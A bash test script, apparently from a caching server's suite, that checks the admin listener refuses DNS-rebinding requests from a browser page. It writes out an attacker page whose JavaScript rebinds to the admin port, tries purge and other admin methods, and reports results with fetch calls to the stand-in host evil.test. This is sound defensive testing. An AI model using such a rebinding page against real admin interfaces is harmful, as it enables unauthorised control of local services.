#!/usr/bin/env bash
# DNS rebinding in Chromium: a page of evil.test, whose name leads to this machine once the page is loaded, sends the admin listener
# what a browser lets it, as to its own origin. Nothing but /healthz may be answered, and nothing may change.
#
#   tests/real/rebinding.sh        a quarter of a minute
#
# Needs the release build (or LARDER_BIN). Prints PASS / FAIL lines, then a summary; exits 0 only if all passed.
. "$(dirname "$0")/stage.sh"
need chromium:chromium python3:python3 curl:curl
export HOME=$stage/home
mkdir -p "$HOME"

# The attacker's server: a page on the port that is to be the admin listener's, and what the page reports on another.
cat > "$stage/attacker.py" <<'P'
import http.server, sys, threading

port, report_port = int(sys.argv[1]), int(sys.argv[2])
script = """
const report = text => fetch("http://evil.test:REPORT/", { method: "POST", mode: "no-cors", body: text });
const ask = (method, path) => fetch(path, { method, cache: "no-store", headers: { "Purge-Scope": "all" } });
const rebound = async () => {
  try {
    const answer = await ask("GET", "/healthz");
    return answer.status === 200 && await answer.text() === "ok\\n";
  } catch { return false; }
};
addEventListener("load", async () => {
  await report("loaded");
  while (!await rebound()) await new Promise(done => setTimeout(done, 50));
  await report("GET /healthz 200");
  for (const [method, path] of [
    ["GET", "/"], ["GET", "/metrics"], ["GET", "/overview.json"], ["PURGE", "/"], ["PURGE", "/stored"], ["POST", "/purge"],
    ["EXPLAIN", "/stored"], ["SHOW", "/stored"], ["LIST", "/"], ["MISSING", "/"], ["OFFLINE", "/on"], ["PIN", "/"], ["PACK", "/"],
  ]) {
    let outcome;
    try { outcome = (await ask(method, path)).status; } catch { outcome = "failed"; }
    await report(`${method} ${path} ${outcome}`);
  }
  await report("done");
});""".replace("REPORT", str(report_port))
page = f"<!doctype html><title>evil</title><script>{script}</script>".encode()

class Handler(http.server.BaseHTTPRequestHandler):
    def do_GET(self):
        self.send_response(200)
        for field in [("Content-Type", "text/html"), ("Content-Length", str(len(page))), ("Connection", "close")]:
            self.send_header(*field)
        self.end_headers()
        self.wfile.write(page)

    def do_POST(self):
        text = self.rfile.read(int(self.headers["Content-Length"])).decode()
        if text == "loaded":
            # The name leads elsewhere from now on: the port is free before the page goes on.
            pages.shutdown()
            pages.server_close()
        sys.stdout.write(f"{text}\n")
        sys.stdout.flush()
        self.send_response(204)
        self.end_headers()

    def log_message(self, *_):
        pass

pages = http.server.ThreadingHTTPServer(("127.0.0.1", port), Handler)
threading.Thread(target=pages.serve_forever, daemon=True).start()
http.server.ThreadingHTTPServer(("127.0.0.1", report_port), Handler).serve_forever()
P
mkdir "$stage/www"
echo stored > "$stage/www/stored"
origin_port=$(free_port)
(cd "$stage/www" && exec python3 -m http.server --bind 127.0.0.1 "$origin_port") > "$stage/origin.log" 2>&1 </dev/null &
pids+=("$!")
admin_port=$(free_port)
report_port=$(free_port)
python3 "$stage/attacker.py" "$admin_port" "$report_port" > "$stage/reports" 2>"$stage/attacker.err" </dev/null &
pids+=("$!")
await 10 answers "$admin_port"
await 10 answers "$origin_port"

chromium --headless --no-sandbox --disable-gpu --no-first-run --disable-background-networking --disable-component-update \
  --disable-sync --disable-dev-shm-usage --user-data-dir="$stage/profile" --host-resolver-rules="MAP evil.test 127.0.0.1" \
  "http://evil.test:$admin_port/" > "$stage/chromium.log" 2>&1 </dev/null &
browser_pid=$!
pids+=("$browser_pid")
verdict "the page of evil.test is loaded" await 60 grep -qx loaded "$stage/reports"

launch larder --disk "$stage/store.larder" --size 64MiB --origin "http://127.0.0.1:$origin_port" --admin "127.0.0.1:$admin_port"
stored() { curl -sS -o /dev/null -D - "http://127.0.0.1:$larder_port/stored" | grep -i '^cache-status'; }
stored > /dev/null
verdict "a response is stored" await 10 eval 'stored | grep -q "; hit"'
verdict "the page has sent all that it can" await 60 grep -qx done "$stage/reports"

verdict "it read /healthz, so its requests do arrive" grep -qx 'GET /healthz 200' "$stage/reports"
while read -r method path outcome; do
  verdict "$method $path is refused" [ "$outcome" = 421 ]
done < <(grep -E '^[A-Z]+ /' "$stage/reports" | grep -v '^GET /healthz')
verdict "13 requests were tried" [ "$(grep -cE '^[A-Z]+ /' "$stage/reports")" -eq 14 ]
verdict "nothing was purged" eval 'stored | grep -q "; hit"'
verdict "origins are asked as before" [ "$(curl -sS -o /dev/null -w '%{http_code}' "http://127.0.0.1:$larder_port/other")" = 404 ]
verdict "under its own address the listener answers" [ "$(curl -sS -o /dev/null -w '%{http_code}' "http://127.0.0.1:$admin_port/metrics")" = 200 ]
kill "$browser_pid" 2>/dev/null
summary
